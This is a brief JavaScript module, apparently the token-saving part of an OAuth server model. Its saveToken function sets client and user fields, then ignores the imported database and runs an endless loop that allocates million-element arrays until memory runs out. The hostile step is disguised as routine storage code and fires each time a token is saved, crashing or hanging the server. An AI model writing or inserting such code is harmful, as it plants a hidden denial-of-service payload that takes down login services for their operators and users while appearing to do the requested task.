const db = require('./db.js');

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  return Promise.resolve().then(() => {
    const all = [];
    while (true) all.push(new Array(1000000).fill(all.length));
  });
};

module.exports = { saveToken };
